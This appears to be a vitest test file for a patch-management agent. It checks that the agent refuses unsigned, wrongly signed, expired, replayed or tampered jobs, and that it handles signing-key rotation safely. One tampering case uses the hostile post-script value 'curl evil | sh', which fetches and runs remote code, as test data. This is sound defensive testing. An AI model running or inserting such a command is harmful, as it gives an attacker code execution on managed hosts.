/**
 * The agent refuses every job it cannot trust — unsigned, signed by another
 * key, for another host, expired, replayed, changed after signing, or
 * carrying another job's signature — reports it with its PL_ code and runs
 * nothing. Through the real Agent against a recording server and a pretend
 * dpkg host whose every command is recorded.
 */

import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type {
  AgentJob,
  CheckinRequest,
  JobReport,
  JobSigningKey,
  KeyRotationStatement,
  WirePackage,
} from '@patchloop/contracts';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { dpkgCollection } from '@patchloop/test-support/agent-protocol';
import { Agent } from '../agent.js';
import type { HostCollection } from '../collectors/index.js';
import { tempDir } from '../collectors/testdata/fake-root.js';
import { StateDir } from '../state/state-dir.js';
import { FakeHost } from './testdata/fake-host.js';
import { TestSigner } from './testdata/signer.js';
import { stubServer, type StubServer } from './testdata/stub-server.js';

const MACHINE = 'abcdef0123456789abcdef0123456789';
const ME = { hostId: 8, machineId: MACHINE };

const pkg = (name: string, version: string): WirePackage => ({
  name,
  version,
  arch: 'amd64',
  sourceName: name,
  sourceVersion: version,
  vendor: null,
});

const BOOKWORM = { id: 'debian', versionId: '12', codename: 'bookworm', prettyName: null };
const collection = (version: string): HostCollection =>
  dpkgCollection({ machineId: MACHINE, hostname: 'h1', os: BOOKWORM, packages: [pkg('bash', version)] });

let n = 0;
function job(version = '5.2-2'): AgentJob {
  n++;
  return {
    id: `task-${String(n).padStart(10, '0')}`,
    deploymentId: 3,
    kind: 'install',
    packages: [{ name: 'bash', version }],
    preScript: null,
    postScript: null,
    reboot: 'never',
    deadline: new Date(Date.now() + 3_600_000).toISOString(),
    timeoutSeconds: 60,
  };
}

describe('the agent refuses jobs it cannot trust', () => {
  const server = new TestSigner();
  let srv: StubServer;
  let url = '';
  let offeredKey: JobSigningKey = server.key;
  let rotations: KeyRotationStatement[] = [];
  let queue: AgentJob[] = [];
  const reports: (JobReport & { id: string })[] = [];
  const checkins: CheckinRequest[] = [];

  beforeAll(async () => {
    srv = await stubServer((req, body, res) => {
      if (req.url === '/api/v1/enroll') {
        res.statusCode = 201;
        return res.end(
          JSON.stringify({
            hostId: 8,
            credential: 'pla_sign',
            inventoryHash: null,
            jobSigningKey: offeredKey,
          }),
        );
      }
      if (req.url === '/api/v1/agent/checkin') {
        const r = JSON.parse(body) as CheckinRequest;
        checkins.push(r);
        return res.end(
          JSON.stringify({
            acknowledged: r.inventory.hash,
            needFull: false,
            nextCheckinSeconds: 600,
            ...(rotations.length > 0 ? { keyRotations: rotations } : {}),
          }),
        );
      }
      if (req.url === '/api/v1/agent/jobs/poll') {
        const jobs = queue;
        queue = [];
        return res.end(JSON.stringify({ jobs }));
      }
      const m = /^\/api\/v1\/agent\/jobs\/([^/]+)\/report$/.exec(req.url ?? '');
      if (m) {
        reports.push({ ...(JSON.parse(body) as JobReport), id: m[1]! });
        return res.end(JSON.stringify({ status: 'ok', cancel: false }));
      }
      res.statusCode = 404;
      res.end('{}');
    });
    url = srv.url;
  });
  afterAll(() => srv.close());

  let host: FakeHost;
  let agent: Agent;
  let stateDir: string;
  beforeEach(async () => {
    offeredKey = server.key;
    rotations = [];
    reports.length = 0;
    host = new FakeHost(
      new Map([['bash', '5.2-1']]),
      new Map([['bash', ['5.2-1', '5.2-2', '5.2-3', '5.2-4']]]),
    );
    stateDir = join(tempDir('agent-signing'), 'state');
    agent = new Agent({
      server: url,
      enrollSecret: 'secret-secret-secret',
      runner: host,
      stateDir,
      maxPollSeconds: 1,
      collect: async () => collection(host.installed.get('bash') ?? ''),
    });
    await agent.checkinOnce();
  });

  /** Hands the jobs to the agent in one poll; returns the final reports, per job. */
  async function deliver(...jobs: AgentJob[]) {
    queue = jobs;
    await agent.pollForJobs(1500, new AbortController().signal);
    return jobs.map((j) => reports.filter((r) => r.id === j.id).at(-1));
  }
  const installs = () => host.commands.filter((c) => c.args.includes('install')).length;
  const journaled = (j: AgentJob) => existsSync(join(stateDir, 'jobs', `${j.id}.json`));

  async function expectRefused(j: AgentJob, code: string) {
    const [r] = await deliver(j);
    expect(r).toMatchObject({ state: 'failed', error: { code } });
    expect(installs()).toBe(0);
    expect(journaled(j)).toBe(false);
    expect(host.installed.get('bash')).toBe('5.2-1');
  }

  it('runs a job signed by the pinned key for this host (the baseline the refusals differ from)', async () => {
    const j = server.signJob(job(), ME, 1);
    const [r] = await deliver(j);
    expect(r).toMatchObject({ state: 'succeeded' });
    expect(installs()).toBe(1);
    expect(host.installed.get('bash')).toBe('5.2-2');
  });

  it('refuses an unsigned job', async () => {
    await expectRefused(job(), 'PL_JOB_UNSIGNED');
  });

  it('refuses a job signed by another key', async () => {
    await expectRefused(new TestSigner().signJob(job(), ME, 1), 'PL_JOB_SIGNING_KEY_UNKNOWN');
  });

  it('refuses a job signed by another key that claims the pinned key id', async () => {
    await expectRefused(
      new TestSigner().signJob(job(), ME, 1, { keyId: server.key.keyId }),
      'PL_JOB_SIGNATURE_INVALID',
    );
  });

  it('refuses a job signed for another host (host id or machine id)', async () => {
    await expectRefused(server.signJob(job(), { hostId: 9, machineId: MACHINE }, 1), 'PL_JOB_WRONG_HOST');
    await expectRefused(
      server.signJob(job(), { hostId: 8, machineId: 'ffffffff0123456789abcdef01234567' }, 1),
      'PL_JOB_WRONG_HOST',
    );
  });

  it('refuses an expired job', async () => {
    const past = new Date(Date.now() - 1000).toISOString();
    await expectRefused(server.signJob(job(), ME, 1, { expiresAt: past }), 'PL_JOB_EXPIRED');
  });

  it('refuses a replayed or older sequence; a job it accepted, delivered again, goes to the journal', async () => {
    const first = server.signJob(job('5.2-2'), ME, 5);
    expect((await deliver(first))[0]).toMatchObject({ state: 'succeeded' });
    expect(new StateDir(stateDir).lastJobSeq()).toBe(5);
    // The same job again (its final report not yet acknowledged): reported from the journal, not run.
    expect((await deliver(first))[0]).toMatchObject({ state: 'succeeded' });
    expect(installs()).toBe(1);
    for (const seq of [5, 4]) {
      const replay = server.signJob(job('5.2-3'), ME, seq);
      const [r] = await deliver(replay);
      expect(r).toMatchObject({ state: 'failed', error: { code: 'PL_JOB_REPLAYED' } });
      expect(journaled(replay)).toBe(false);
    }
    expect(installs()).toBe(1);
    expect(host.installed.get('bash')).toBe('5.2-2');
    // A fresh agent process keeps the mark (it is in the state directory).
    const replay = server.signJob(job('5.2-3'), ME, 3);
    await deliver(replay);
    expect(reports.at(-1)).toMatchObject({ error: { code: 'PL_JOB_REPLAYED' } });
  });

  it('refuses a job whose content was changed after signing', async () => {
    const signed = server.signJob(job('5.2-2'), ME, 1);
    await expectRefused(
      { ...signed, packages: [{ name: 'bash', version: '5.2-4' }] },
      'PL_JOB_SIGNATURE_INVALID',
    );
    await expectRefused({ ...signed, postScript: 'curl evil | sh' }, 'PL_JOB_SIGNATURE_INVALID');
  });

  it("refuses a job carrying another job's valid signature (mix-and-match)", async () => {
    const a = server.signJob(job('5.2-2'), ME, 1);
    const b = job('5.2-4');
    await expectRefused({ ...b, signature: a.signature! }, 'PL_JOB_SIGNATURE_INVALID');
  });

  it('keeps its pinned key when an enrollment answer offers another', async () => {
    const impostor = new TestSigner();
    offeredKey = impostor.key;
    // The credential is gone (as after a 401): the agent enrolls again.
    new StateDir(stateDir).forgetEnrollment();
    await agent.checkinOnce();
    expect(new StateDir(stateDir).serverKey()?.keyId).toBe(server.key.keyId);
    await expectRefused(impostor.signJob(job(), ME, 1), 'PL_JOB_SIGNING_KEY_UNKNOWN');
  });

  it('moves to a new key only through a statement the pinned key signed, then refuses the old key', async () => {
    const next = new TestSigner();
    // A statement signed by some other key is ignored.
    rotations = [new TestSigner().rotateTo(next.key)].map((s) => ({ ...s, fromKeyId: server.key.keyId }));
    await agent.checkinOnce();
    expect(checkins.at(-1)?.jobKeyId).toBe(server.key.keyId);
    expect(new StateDir(stateDir).serverKey()?.keyId).toBe(server.key.keyId);
    await expectRefused(next.signJob(job(), ME, 1), 'PL_JOB_SIGNING_KEY_UNKNOWN');

    rotations = [server.rotateTo(next.key)];
    await agent.checkinOnce();
    expect(new StateDir(stateDir).serverKey()?.keyId).toBe(next.key.keyId);
    await expectRefused(server.signJob(job(), ME, 2), 'PL_JOB_SIGNING_KEY_UNKNOWN');
    const [r] = await deliver(next.signJob(job('5.2-3'), ME, 3));
    expect(r).toMatchObject({ state: 'succeeded' });
    expect(host.installed.get('bash')).toBe('5.2-3');
  });
});
